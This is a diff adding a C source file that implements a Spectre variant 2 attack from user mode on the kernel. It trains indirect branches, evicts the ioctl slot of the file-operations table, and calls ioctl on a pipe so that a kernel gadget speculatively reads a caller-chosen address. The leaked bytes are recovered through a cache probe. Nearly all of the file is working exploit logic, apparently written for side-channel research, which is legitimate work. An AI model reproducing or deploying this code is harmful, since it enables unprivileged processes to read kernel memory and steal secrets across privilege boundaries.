@@ -1,0 +1,81 @@
+/*
+ * Spectre, variant 2 (Kocher et al., 2019; Horn, 2018), from user mode to the kernel: the indirect
+ * call of a file's ioctl function is sent to code in the kernel that reads where a register points.
+ * The register holds ioctl's last argument, which is the caller's to choose. The call waits for a
+ * table of functions that has been evicted.
+ *
+ * Which register that is differs between kernels; the attack tries all on a byte that it knows.
+ */
+#include "attack.h"
+
+#include <sys/ioctl.h>
+
+#include "evict.h"
+#include "gadget.h"
+#include "secret.h"
+#include "train.h"
+
+enum {
+	NO_COMMAND = 0x5eed,	/* of no file */
+	IOCTL_IN_TABLE = 0x50,	/* offset in struct file_operations */
+	ATTEMPTS = 4,
+};
+
+static const uint8_t *array, *branches[MOST_ADDRESSES];
+static uint64_t disclosure;
+static int file;
+
+static int read_byte(uint64_t address)
+{
+	const uint8_t *probe = array + SHARED_PROBE;
+
+	for (int i = 0; i < options.branches.count; i++)
+		train(branches[i], disclosure);
+	flush_probe(probe);
+	evict(options.slow + IOCTL_IN_TABLE, second_level_pages);
+	leave_history(next_random());
+	ioctl(file, NO_COMMAND, address);
+	return reload_probe(probe);
+}
+
+static int sample(int index)
+{
+	use_secret(index);
+	return read_byte(options.address + index);
+}
+
+/* Whether a byte that is known can be read. */
+static int works(void)
+{
+	int right = 0;
+
+	for (int i = 0; i < ATTEMPTS; i++)
+		right += read_byte(options.known) == KNOWN_BYTE;
+	return right > 1;
+}
+
+int main(int argc, char **argv)
+{
+	int pipes[2];
+
+	parse_options(argc, argv);
+	if (!options.address || !options.branches.count || !options.disclosures.count)
+		errx(2, "expected --address, --branch and --disclosure");
+	open_secret();
+	array = map_gadget(options.gadget);
+	catch_faults();
+	calibrate();
+	prepare_eviction();
+	if (pipe(pipes))
+		err(1, "pipe");
+	file = pipes[0];
+	for (int i = 0; i < options.branches.count; i++)
+		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
+	for (int i = 0; i < options.disclosures.count; i++) {
+		disclosure = options.disclosures.at[i];
+		if (works())
+			break;
+	}
+	recover(sample, (struct patience){ .samples = 12, .lead = 2 }, 1);
+	return 0;
+}
